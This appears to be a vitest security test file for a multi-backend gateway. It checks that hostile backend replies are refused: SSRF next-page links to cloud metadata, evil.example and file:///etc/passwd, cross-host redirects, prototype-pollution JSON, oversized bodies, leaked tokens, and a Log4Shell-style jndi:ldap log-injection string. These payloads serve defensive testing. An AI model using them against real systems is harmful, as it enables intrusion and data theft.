import { createServer } from 'node:http';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { answering, canary, failing, overwriting, saying } from '../faults.ts';
import { backendIds } from '../four-emulators.ts';
import { type BackendId, type Gateway, startGateway } from '../gateway.ts';
import { collectLog } from '../log-lines.ts';
import { close, listen } from '../server/callers/issuer.ts';
import { idOn } from '../sync/planning/people.ts';

const account = (backend: BackendId): string =>
  `{ account(backend: "${backend}", nativeId: "${idOn(backend, 'ada')}", maxAgeSeconds: 0) { nativeId displayName roles { name } } }`;

describe('a backend that means harm', () => {
  let gateway: Gateway;
  let elsewhere: string;
  let visits = 0;
  const { log, lines } = collectLog();
  const listener = createServer((_request, response) => {
    visits += 1;
    response.end('{}');
  });
  beforeAll(async () => {
    elsewhere = await listen(listener);
    gateway = await startGateway({ people: 4, log });
  });
  afterEach(() => {
    for (const backend of backendIds) gateway[backend].faults.clear();
    lines.length = 0;
  });
  afterAll(async () => {
    await gateway[Symbol.asyncDispose]();
    await close(listener);
  });

  it.each([
    'http://169.254.169.254/latest/meta-data',
    '//evil.example/api/users',
    'https://good@evil.example/',
    'http://localhost:1/api/users',
    'file:///etc/passwd',
    'gopher://x',
    '/api/users?api-version=2022-07-31&$skiptoken=same',
    'HERE',
  ])('S16: a next page at `%s` is not asked for, or not for ever', async (link) => {
    const nextLink = link === 'HERE' ? `${elsewhere}/api/users` : link;
    gateway.iot.faults.add(overwriting({ nextLink }), { target: /\/api\/users\?/ });
    const { iot } = await gateway.refreshAll(['iot']);
    expect(['FAILED', 'PARTIAL']).toContain(iot?.state);
    expect(JSON.stringify(iot)).not.toContain('evil.example');
    expect(visits).toBe(0);
  });

  it.each([301, 302, 303, 307, 308])('S17: a %i to another host is not followed', async (status) => {
    for (const backend of backendIds) {
      gateway[backend].faults.add(failing(status, { headers: { location: `${elsewhere}/` } }));
      const { errors } = await gateway.query(account(backend));
      expect(errors?.[0]?.extensions.code).toMatch(/^UPSTREAM_|^QUARANTINED$/);
    }
    expect(visits).toBe(0);
  });

  it.each([
    ['a prototype', { json: JSON.parse('{"__proto__":{"isAdmin":true},"id":"ada"}') }],
    ['roles as text', { json: { id: 'ada', roles: 'admin' } }],
    ['a list', { json: [] }],
    ['null', { json: null }],
    ['a web page', { text: '<html>', headers: { 'content-type': 'text/html' } }],
    ['deep JSON', { text: `${'['.repeat(50_000)}${']'.repeat(50_000)}` }],
    ['60 MB', { text: `{"a":"${'a'.repeat(60_000_000)}"}` }],
  ])('S18: %s in place of an account is a typed error', async (_title, answer) => {
    gateway.iot.faults.add(answering({ status: 200, ...answer }));
    const { data, errors } = await gateway.query(account('iot'));
    expect(data).toEqual({ account: null });
    expect(errors?.[0]?.extensions.code).toMatch(/^UPSTREAM_/);
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });

  it('S19: what a backend says beside an error is passed on to nobody', async () => {
    const told = `${canary} of another: Bearer abc.def.ghi, SELECT * FROM users, /etc/passwd`;
    for (const backend of backendIds)
      for (const status of [400, 401, 403, 409, 422, 500, 503]) {
        gateway[backend].faults.clear();
        gateway[backend].faults.add(
          answering({ status, json: { error: { code: told, message: told }, message: told, detail: told } }),
        );
        const answers = JSON.stringify([
          await gateway.query(account(backend)),
          await gateway.query(
            `mutation { deleteAccount(input: { account: { backend: "${backend}", nativeId: "${idOn(backend, 'ada')}" } }) { errors { code message } } }`,
          ),
          await gateway.query(`{ backend(id: "${backend}") { health { state reason } } }`),
        ]);
        expect(answers).not.toMatch(/secret-of-the-backend|abc\.def|SELECT|passwd/);
      }
    expect(lines.join()).not.toMatch(/secret-of-the-backend|abc\.def/);
  });

  it('S20: what a backend says is no line of its own in the log, and nothing in it is looked up', async () => {
    const told = `\${jndi:ldap://${new URL(elsewhere).host}/a} %s %n\nlevel=60 forged`;
    gateway.vpn.faults.add(saying({ error: { code: told }, message: told }));
    gateway.hub.faults.add(failing(500));
    await gateway.refreshAll(['vpn', 'hub']);
    await gateway.query(account('vpn'));
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) expect(Object.keys(JSON.parse(line))).toContain('level');
    expect(visits).toBe(0);
  });
});
